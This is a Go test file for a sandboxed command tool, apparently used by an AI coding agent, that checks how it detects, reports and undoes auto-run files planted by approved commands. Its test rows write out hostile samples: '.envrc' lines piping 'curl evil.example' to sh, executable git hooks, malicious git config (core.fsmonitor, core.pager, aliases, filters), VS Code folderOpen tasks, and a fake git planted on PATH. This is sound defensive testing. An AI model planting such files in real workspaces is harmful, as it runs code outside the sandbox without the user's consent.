package tools

import (
	"context"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/agentls/agentls/sandbox"
)

// askingEnv is a fakeEnv that can ask about auto-run changes after a
// command (AutoRunConfirmer) and answers answer.
type askingEnv struct {
	*fakeEnv
	answer AutoRunAnswer
	mu     sync.Mutex
	asked  []AutoRunReport
}

func (a *askingEnv) ConfirmAutoRun(_ context.Context, r AutoRunReport) AutoRunAnswer {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.asked = append(a.asked, r)
	return a.answer
}

// sentinelWorkspace is a workspace for the after-command check: a plain
// file, a repository in repo/ (its hooks: git's samples, one made not
// executable, and a pre-push that is not executable), an existing
// old/.vscode/settings.json and an old/huge.code-workspace over the
// snapshot's cap — all below the top, so that under Landlock alone a
// command can still make new entries at the top — and a template folder
// tpl/ with an executable hook (for `git init --template`). outside is a
// folder outside the workspace that nothing may write.
func sentinelWorkspace(t *testing.T, mode string) (env *fakeEnv, outside string) {
	t.Helper()
	env = newFake(t, map[string]string{
		"a.txt":                     "a\n",
		"lib/a.go":                  "package lib\n",
		"old/.vscode/settings.json": "{}\n",
		"tpl/hooks/post-checkout":   "#!/bin/sh\necho pwned\n",
		"repo/a.txt":                "a\n",
		"old/huge.code-workspace":   strings.Repeat("x", sentinelFileCap+10),
	})
	if err := os.Chmod(env.path("tpl/hooks/post-checkout"), 0o755); err != nil {
		t.Fatal(err)
	}
	repo := env.path("repo")
	gitOut(t, repo, "init", "-q", "-b", "main")
	gitOut(t, repo, "add", "a.txt")
	gitOut(t, repo, "commit", "-q", "-m", "one")
	writeFile(t, env.path("repo/.git/hooks/pre-push"), "#!/bin/sh\n")
	if err := os.WriteFile(env.path("repo/.git/hooks/pre-commit.sample"), []byte("#!/bin/sh\n# sample\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(env.path("repo/.git/hooks/pre-commit.sample"), 0o644); err != nil {
		t.Fatal(err)
	}
	outside = t.TempDir()
	writeFile(t, filepath.Join(outside, "keep.txt"), "outside\n")
	env.cfg.Sandbox.Mode = mode
	env.confirmRule = "" // the user approved each command
	return env, outside
}

// sentinelRow is one way an approved command plants something that runs
// outside the sandbox by itself later.
type sentinelRow struct {
	name, command string
	// bites lists the sandbox modes in which the command gets through the
	// sandbox ("off": always): there it must be asked about.
	bites []string
	// watch are the paths compared; named those the question must name.
	watch, named []string
	// allowGitConfig sets sandbox.allow_git_config.
	allowGitConfig bool
	// unrestorable is a path Remove cannot put back (over the cap).
	unrestorable string
	// repoConfig is a new repository's config and dangerous the keys the
	// command set in it: the question names each; Keep leaves them, any
	// other answer leaves the repository without them (its config
	// rewritten, or gone when removed is set) yet still a repository.
	repoConfig string
	dangerous  []string
	removed    bool
	// made is a path a command that is not asked about must have made.
	made string
}

var (
	everyMode = []string{"off", "auto", "bwrap", "landlock"}
	// topModes: under Landlock alone nothing new can be made in a folder
	// that holds a read-only path (the workspace's top here: old/.vscode,
	// repo/.git below it), so a new file at the top needs another layer
	// to get through; in lib/ it gets through in every mode.
	topModes = []string{"off", "auto", "bwrap"}
)

// sentinelRows: the holes docs/guard.md listed before the check.
func sentinelRows() []sentinelRow {
	return []sentinelRow{
		{name: "new .vscode/tasks.json", command: `mkdir -p .vscode && echo '{"tasks":[{"command":"x","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
			bites: topModes, watch: []string{".vscode", ".vscode/tasks.json"}, named: []string{".vscode/tasks.json"}},
		{name: "new lib/.vscode/tasks.json", command: `mkdir -p lib/.vscode && echo '{"tasks":[]}' > lib/.vscode/tasks.json`,
			bites: everyMode, watch: []string{"lib/.vscode", "lib/.vscode/tasks.json"}, named: []string{"lib/.vscode/tasks.json"}},
		{name: "new .envrc", command: "echo 'curl evil.example | sh' > .envrc",
			bites: topModes, watch: []string{".envrc"}, named: []string{".envrc"}},
		{name: "new lib/.envrc", command: "echo 'curl evil.example | sh' > lib/.envrc",
			bites: everyMode, watch: []string{"lib/.envrc"}, named: []string{"lib/.envrc"}},
		{name: "new lib/.nvim.lua", command: `echo 'os.execute("x")' > lib/.nvim.lua`,
			bites: everyMode, watch: []string{"lib/.nvim.lua"}, named: []string{"lib/.nvim.lua"}},
		{name: "new x.code-workspace", command: `echo '{"tasks":{}}' > x.code-workspace`,
			bites: topModes, watch: []string{"x.code-workspace"}, named: []string{"x.code-workspace"}},
		{name: "git init and an executable hook", command: `git init -q lib/sub && printf '#!/bin/sh\necho pwned\n' > lib/sub/.git/hooks/pre-commit && chmod +x lib/sub/.git/hooks/pre-commit`,
			bites: everyMode, watch: []string{"lib/sub/.git/hooks/pre-commit"}, named: []string{"lib/sub/.git/hooks/pre-commit"}},
		{name: "chmod +x a sample hook", command: "chmod +x repo/.git/hooks/pre-commit.sample",
			bites: []string{"off"}, watch: []string{"repo/.git/hooks/pre-commit.sample"}, named: []string{"repo/.git/hooks/pre-commit.sample"}},
		{name: "chmod +x a hook", command: "chmod +x repo/.git/hooks/pre-push",
			bites: []string{"off"}, watch: []string{"repo/.git/hooks/pre-push"}, named: []string{"repo/.git/hooks/pre-push"}},
		{name: "git alone adds a hook", command: "git -C repo init -q --template=../tpl",
			bites: []string{"off", "landlock"}, watch: []string{"repo/.git/hooks/post-checkout"}, named: []string{"repo/.git/hooks/post-checkout"}},
		{name: "a changed hook with allow_git_config", command: "echo x > /dev/null; echo 'echo pwned' >> repo/.git/hooks/pre-push",
			bites: []string{"off", "landlock"}, watch: []string{"repo/.git/hooks/pre-push"}, named: []string{"repo/.git/hooks/pre-push"}, allowGitConfig: true},
		{name: "a symlinked .envrc", command: "ln -s OUTSIDE/keep.txt lib/.envrc",
			bites: everyMode, watch: []string{"lib/.envrc"}, named: []string{"lib/.envrc"}},
		{name: "an auto-run folder replaced by a symlink", command: "rm -rf old/.vscode && ln -s OUTSIDE old/.vscode",
			bites: []string{"off"}, watch: []string{"old/.vscode", "old/.vscode/settings.json"}, named: []string{"old/.vscode"}},
		{name: "a new file over the cap", command: fmt.Sprintf("head -c %d /dev/zero > lib/big.code-workspace", sentinelFileCap+1),
			bites: everyMode, watch: []string{"lib/big.code-workspace"}, named: []string{"lib/big.code-workspace"}},
		{name: "a changed file over the cap", command: "echo y >> old/huge.code-workspace",
			bites: []string{"off"}, watch: []string{"old/huge.code-workspace"}, named: []string{"old/huge.code-workspace"}, unrestorable: "old/huge.code-workspace"},
	}
}

// newRepoRows: a repository the command creates, whose configuration
// runs programs once git runs there (VS Code's git extension runs `git
// status` in a nested repository by itself); its hooks are the rows
// above. Before, only a new repository's hooks were compared.
func newRepoRows() []sentinelRow {
	const cfg = "lib/sub/.git/config"
	return []sentinelRow{
		{name: "git init and core.fsmonitor by git config", command: `git init -q lib/sub && git -C lib/sub config core.fsmonitor 'sh -c "echo pwned"'`,
			bites: everyMode, named: []string{cfg}, repoConfig: cfg, dangerous: []string{"core.fsmonitor"}},
		{name: "git init and core.fsmonitor written to .git/config", command: `git init -q lib/sub && printf '[Core]\n\tFsMonitor = "sh -c \\"echo pwned\\""\n' >> lib/sub/.git/config`,
			bites: everyMode, named: []string{cfg}, repoConfig: cfg, dangerous: []string{"core.fsmonitor"}},
		{name: "a new repository's config made by hand", command: `mkdir -p lib/sub/.git/objects lib/sub/.git/refs && echo 'ref: refs/heads/main' > lib/sub/.git/HEAD && printf '[core]fsmonitor=x\n' > lib/sub/.git/config`,
			bites: everyMode, named: []string{cfg}, repoConfig: cfg, dangerous: []string{"core.fsmonitor"}, removed: true},
		{name: "git clone and core.pager, git alone", command: `git clone -q repo lib/sub && git -C lib/sub config core.pager 'less; echo pwned'`,
			bites: everyMode, named: []string{cfg}, repoConfig: cfg, dangerous: []string{"core.pager"}},
		{name: "git init and include.path", command: `git init -q lib/sub && git -C lib/sub config include.path ../../evil.inc`,
			bites: everyMode, named: []string{cfg}, repoConfig: cfg, dangerous: []string{"include.path"}},
		{name: "git init and an alias that runs a program", command: `git init -q lib/sub && git -C lib/sub config alias.st '!echo pwned'`,
			bites: everyMode, named: []string{cfg}, repoConfig: cfg, dangerous: []string{"alias.st"}},
		{name: "git init, a filter and .gitattributes", command: `git init -q lib/sub && git -C lib/sub config filter.x.clean 'echo pwned' && echo '* filter=x' > lib/sub/.gitattributes`,
			bites: everyMode, named: []string{cfg}, repoConfig: cfg, dangerous: []string{"filter.x.clean"}},
		{name: "git init and core.hooksPath with allow_git_config", command: `git init -q lib/sub && git -C lib/sub config core.hooksPath /tmp/x`,
			bites: everyMode, named: []string{cfg}, repoConfig: cfg, dangerous: []string{"core.hookspath"}, allowGitConfig: true},
		{name: "git init and a commondir", command: `git init -q lib/sub && echo ../../../repo/.git > lib/sub/.git/commondir`,
			bites: everyMode, watch: []string{"lib/sub/.git/commondir"}, named: []string{"lib/sub/.git/commondir"}},
		{name: "a .git file to a folder with an evil config", command: `git init -q --bare lib/evil && git -C lib/evil config core.fsmonitor 'echo pwned' && mkdir lib/sub && echo 'gitdir: ../evil' > lib/sub/.git`,
			bites: everyMode, watch: []string{"lib/sub/.git"}, named: []string{"lib/sub/.git"}},
		{name: "git init alone", command: "git init -q lib/sub", made: cfg},
		{name: "git clone alone", command: "git clone -q repo lib/sub", made: cfg},
		{name: "a clone-like config by hand", command: `git init -q -b main lib/sub && git -C lib/sub remote add origin https://example.invalid/x.git && git -C lib/sub config branch.main.remote origin && git -C lib/sub config branch.main.merge refs/heads/main && git -C lib/sub config user.name me`,
			made: cfg},
	}
}

// sentinelAnswers are the user's answers; nil: no surface to ask.
var sentinelAnswers = []struct {
	name   string
	answer *AutoRunAnswer
	keep   bool
	told   string
}{
	{"keep", &AutoRunAnswer{Keep: true}, true, "the user was asked and kept them"},
	{"remove", &AutoRunAnswer{Why: "the user chose Remove when asked"}, false, "not kept (the user chose Remove when asked), so agentls undid it"},
	{"dismissed or timed out", &AutoRunAnswer{Why: "dismissed when asked"}, false, "not kept (dismissed when asked)"},
	{"no surface", nil, false, "not kept (the editor cannot ask)"},
}

// runSentinel runs command as approved in env, asking through answer.
func runSentinel(t *testing.T, env *fakeEnv, answer *AutoRunAnswer, command string) (RunOutput, []AutoRunReport) {
	t.Helper()
	if answer == nil {
		return runApproved(t, env, command), nil
	}
	a := &askingEnv{fakeEnv: env, answer: *answer}
	var got RunOutput
	value(t, call(t, runTool, a, fmt.Sprintf("{\"command\":%q}", command)), &got)
	return got, a.asked
}

// TestRunSentinelUndoesAutoRunFiles: what an approved command plants
// that the sandbox cannot keep (paths that did not exist yet, hooks git itself or any command under allow_git_config
// writes under Landlock alone, a folder replaced by a link where no layer
// holds) is asked about after the command, naming each file; Keep leaves
// it as the command left it, Remove, a dismissal, a timeout or no surface
// puts back each watched path byte for byte and mode for mode (a file over
// the cap that changed is reported as not restorable), and nothing outside
// the workspace is written. Fails on 8eeaf23, where nothing looked after
// the command.
func TestRunSentinelUndoesAutoRunFiles(t *testing.T) {
	inEveryMode(t, func(t *testing.T, mode string) {
		for _, row := range append(sentinelRows(), newRepoRows()...) {
			for i, ans := range sentinelAnswers {
				bites := slices.Contains(row.bites, mode)
				if (!bites || mode != "off") && i != 1 {
					continue // held by the sandbox, one answer shows nothing is asked; through it, every answer acts alike in every mode
				}
				t.Run(row.name+"/"+ans.name, func(t *testing.T) {
					t.Parallel() // each in a workspace of its own
					env, outside := sentinelWorkspace(t, mode)
					row := row
					row.command = strings.ReplaceAll(row.command, "OUTSIDE", outside)
					env.cfg.Sandbox.AllowGitConfig = row.allowGitConfig
					root := env.ws.Root()
					before := map[string]string{}
					for _, rel := range row.watch {
						before[rel] = pathState(root, rel)
					}
					outsideBefore := treeState(t, outside)
					got, asked := runSentinel(t, env, ans.answer, row.command)
					if !bites {
						if got.AutoRun != "" || len(asked) != 0 {
							t.Errorf("%s: the sandbox held, yet asked %+v: %s", row.name, asked, got.AutoRun)
						}
						if row.made != "" && env.missing(row.made) {
							t.Errorf("%s: %s is missing (exit %d: %s)", row.name, row.made, got.ExitCode, got.Output)
						}
					} else {
						if got.AutoRun == "" || !strings.Contains(got.AutoRun, ans.told) {
							t.Fatalf("the model read %q, want %q (output %s)", got.AutoRun, ans.told, got.Output)
						}
						if ans.answer != nil {
							if len(asked) != 1 {
								t.Fatalf("asked %d times, want once", len(asked))
							}
							if asked[0].Command != row.command {
								t.Errorf("asked about %q", asked[0].Command)
							}
							for _, n := range row.named {
								if !slices.ContainsFunc(asked[0].Changes, func(c AutoRunChange) bool { return c.Path == n }) {
									t.Errorf("the question %+v does not name %s", asked[0].Changes, n)
								}
							}
							for _, k := range row.dangerous {
								if !slices.ContainsFunc(asked[0].Changes, func(c AutoRunChange) bool { return strings.Contains(strings.ToLower(c.What), k) }) {
									t.Errorf("the question %+v does not name %s", asked[0].Changes, k)
								}
							}
							if row.unrestorable != "" && !slices.ContainsFunc(asked[0].Changes, func(c AutoRunChange) bool { return c.Path == row.unrestorable && c.Capped }) {
								t.Errorf("the question %+v does not say %s is over the cap", asked[0].Changes, row.unrestorable)
							}
						}
					}
					for _, rel := range row.watch {
						now := pathState(root, rel)
						switch {
						case ans.keep && bites && rel == row.named[0] && now == before[rel]:
							t.Errorf("Keep: %s is as before the command (%s)", rel, now)
						case !ans.keep && bites && rel == row.unrestorable:
							if !strings.Contains(got.AutoRun, "could not undo: "+rel) {
								t.Errorf("%s over the cap not reported as not restorable: %s", rel, got.AutoRun)
							}
						case !ans.keep && now != before[rel]:
							t.Errorf("%s: %s is %q, was %q (%s)", ans.name, rel, now, before[rel], got.AutoRun)
						}
					}
					if row.repoConfig != "" && bites {
						checkNewRepoConfig(t, root, row, ans.keep)
					}
					if after := treeState(t, outside); !maps.Equal(after, outsideBefore) {
						t.Errorf("outside the workspace changed: %v → %v", outsideBefore, after)
					}
				})
			}
		}
	})
}

// TestRunSentinelQuietForOrdinaryCommands: a build writing ordinary files,
// `git commit` in an existing repository and a clean that removes a
// nested repository with a .vscode/ (what is gone runs nothing) are asked
// nothing and keep what they did.
func TestRunSentinelQuietForOrdinaryCommands(t *testing.T) {
	inEveryMode(t, func(t *testing.T, mode string) {
		env, _ := sentinelWorkspace(t, mode)
		writeFile(t, env.path("repo/a.txt"), "b\n")
		commands := []struct{ command, made string }{
			{"mkdir -p lib/build && echo x > lib/build/out.txt && echo y > lib/gen.go", "lib/build/out.txt"},
			{"git -C repo -c user.name=t -c user.email=t@t commit -q -am two", ""},
		}
		if mode == "off" { // the sandbox keeps a repository's hooks: only unconfined can a clean remove one
			gitOut(t, env.path("lib"), "init", "-q", "dep")
			writeFile(t, env.path("lib/dep/.vscode/settings.json"), "{}\n")
			commands = append(commands, struct{ command, made string }{"rm -rf lib/dep", ""})
		}
		for _, c := range commands {
			got, asked := runSentinel(t, env, &AutoRunAnswer{Why: "the user chose Remove when asked"}, c.command)
			if got.ExitCode != 0 || got.AutoRun != "" || len(asked) != 0 {
				t.Errorf("%s: exit %d, asked %+v, told %q (%s)", c.command, got.ExitCode, asked, got.AutoRun, got.Output)
			}
			if c.made != "" && env.missing(c.made) {
				t.Errorf("%s: %s is missing", c.command, c.made)
			}
		}
		if log := gitOut(t, env.path("repo"), "log", "--oneline"); !strings.Contains(log, "two") {
			t.Errorf("the commit is not there: %s", log)
		}
	})
}

// inEveryMode runs fn in each sandbox mode this machine has the layers
// of, and with the sandbox off.
func inEveryMode(t *testing.T, fn func(t *testing.T, mode string)) {
	t.Helper()
	if testing.Short() {
		t.Skip("real sandbox")
	}
	for _, mode := range everyMode {
		t.Run(mode, func(t *testing.T) {
			if mode != "off" {
				requireMode(t, mode)
			}
			fn(t, mode)
		})
	}
}

// TestRunSentinelIgnoresWhatTheSandboxKept: what differs after a command
// at a path its sandbox kept read-only was not the command's doing (the
// editor's own writes while it ran: JetBrains saving
// .idea/workspace.xml), so it is neither asked about nor undone; with the
// sandbox off nothing tells them apart and it is asked. Under Landlock
// alone a changed mode still counts (Landlock cannot refuse a chmod).
// Before this, a long command under any sandbox asked about, and by
// default undid, the editor's own saves.
func TestRunSentinelIgnoresWhatTheSandboxKept(t *testing.T) {
	inEveryMode(t, func(t *testing.T, mode string) {
		env, _ := sentinelWorkspace(t, mode)
		root := env.ws.Root()
		policy, scan, approval := runPolicyScan(env, "true", false)
		status := sandbox.Detect().Status(policy.Mode)
		watch := newSentinel(env.ws.Folders(), scan, approval, policy, status)
		// Meanwhile the editor, outside the sandbox:
		writeFile(t, filepath.Join(root, "old/.vscode/settings.json"), "{\"editor.tabSize\": 2}\n")
		writeFile(t, filepath.Join(root, "old/.vscode/launch.json"), "{}\n")
		if err := os.Chmod(filepath.Join(root, "repo/.git/hooks/pre-push"), 0o755); err != nil {
			t.Fatal(err)
		}
		a := &askingEnv{fakeEnv: env, answer: AutoRunAnswer{Why: "rejected when asked"}}
		note := watch.check(context.Background(), a, "true")
		var named []string
		for _, r := range a.asked {
			for _, c := range r.Changes {
				named = append(named, c.Path)
			}
		}
		want := map[string][]string{
			"off":      {"old/.vscode/launch.json", "old/.vscode/settings.json", "repo/.git/hooks/pre-push"},
			"auto":     nil,
			"bwrap":    nil,
			"landlock": {"repo/.git/hooks/pre-push"},
		}[mode]
		if mode == "auto" && !strings.Contains(status.Mode, "bwrap") {
			want = []string{"repo/.git/hooks/pre-push"}
		}
		slices.Sort(named)
		if !slices.Equal(named, want) {
			t.Fatalf("%s (%s): asked about %q, want %q; note %q", mode, status.Mode, named, want, note)
		}
		if got, _ := os.ReadFile(filepath.Join(root, "old/.vscode/settings.json")); mode != "off" && string(got) != "{\"editor.tabSize\": 2}\n" {
			t.Errorf("%s: the editor's own save was undone: %q", mode, got)
		}
	})
}

// checkNewRepoConfig: after Keep the new repository's config still holds
// the keys the command set; after any other answer none of them (nor
// anything but git's own settings), and the folder is still a repository
// git opens.
func checkNewRepoConfig(t *testing.T, root string, row sentinelRow, keep bool) {
	t.Helper()
	cfg := filepath.Join(root, filepath.FromSlash(row.repoConfig))
	data, err := os.ReadFile(cfg)
	if row.removed && !keep {
		if err == nil {
			t.Errorf("%s: not removed: %q", row.repoConfig, data)
		}
		return
	}
	if err != nil {
		t.Fatalf("%s: %v", row.repoConfig, err)
	}
	// One listing, unconfined: what the file holds, not the sandbox around
	// git (TestNewRepoListingConfined).
	entries, err := gitListConfig(data, sandbox.Policy{Mode: sandbox.ModeOff})
	var flagged []string
	for _, e := range entries {
		if !allowedNewRepoKey(e.key) {
			flagged = append(flagged, e.key)
		}
	}
	if keep {
		for _, k := range row.dangerous {
			if !slices.Contains(flagged, k) {
				t.Errorf("Keep: %s lost %s: %q", row.repoConfig, k, data)
			}
		}
		return
	}
	if len(flagged) != 0 || err != nil {
		t.Errorf("after Remove %s still holds %v (%v): %q", row.repoConfig, flagged, err, data)
	}
	gitOut(t, filepath.Dir(filepath.Dir(cfg)), "rev-parse", "--git-dir")
}

// TestSentinelNeverRunsAWorkspaceGit: the after-command check reads a new
// repository's configuration with git, outside every sandbox, so it must
// find git as a command would, never on a PATH entry in the workspace (a
// direnv `PATH_add bin`): there a command could have put its own git, and
// the check would have run it unconfined. Failed before: the planted git
// wrote outside the workspace.
func TestSentinelNeverRunsAWorkspaceGit(t *testing.T) {
	requireGit(t)
	env, outside := sentinelWorkspace(t, "off")
	marker := filepath.Join(outside, "pwned")
	plantGit(t, env.path("lib/bin"), marker)
	_, asked := runSentinel(t, env, &AutoRunAnswer{Why: "rejected when asked"}, "git init -q lib/sub && git -C lib/sub config core.fsmonitor 'echo x'")
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the after-command check ran the git a command could plant in the workspace")
	}
	if len(asked) != 1 || !strings.Contains(asked[0].Summary(), "core.fsmonitor") {
		t.Fatalf("asked %+v, want the new repository's core.fsmonitor (read with the real git)", asked)
	}
}

// TestSentinelTrustsOnPathWhatThePolicyDoes: the check after a command
// looks git up outside the folders its command's policy does not trust
// on PATH (sandbox.Policy.UntrustedPath), not a list of its own: a folder
// the policy adds there holds no git the check runs. Failed while the
// check computed the list again from the workspace folders: the git
// planted in that folder ran.
func TestSentinelTrustsOnPathWhatThePolicyDoes(t *testing.T) {
	requireGit(t)
	env, outside := sentinelWorkspace(t, "off")
	bin, marker := filepath.Join(outside, "bin"), filepath.Join(t.TempDir(), "pwned")
	policy, scan, approval := runPolicyScan(env, "true", false)
	policy.UntrustedPath = append(policy.UntrustedPath, bin)
	watch := newSentinel(env.ws.Folders(), scan, approval, policy, sandbox.Detect().Status(policy.Mode))
	realGit := plantGit(t, bin, marker)
	for _, args := range [][]string{{"init", "-q", "lib/sub"}, {"-C", "lib/sub", "config", "core.fsmonitor", "echo x"}} { // the command, with the real git
		cmd := exec.Command(realGit, args...)
		cmd.Dir = env.ws.Root()
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v: %s", args, err, out)
		}
	}
	a := &askingEnv{fakeEnv: env, answer: AutoRunAnswer{Why: "rejected when asked"}}
	watch.check(context.Background(), a, "git init")
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the after-command check ran a git on a PATH entry the command's policy does not trust")
	}
	if len(a.asked) != 1 || !strings.Contains(a.asked[0].Summary(), "core.fsmonitor") {
		t.Fatalf("asked %+v, want the new repository's core.fsmonitor (read with the real git)", a.asked)
	}
}

// plantGit puts in bin a git that writes marker and runs the real one
// (whose path it returns), first on PATH for the test.
func plantGit(t *testing.T, bin, marker string) string {
	t.Helper()
	realGit, err := exec.LookPath("git")
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(bin, "git"), "#!/bin/sh\necho ran > "+marker+"\nexec "+realGit+" \"$@\"\n")
	if err := os.Chmod(filepath.Join(bin, "git"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	return realGit
}
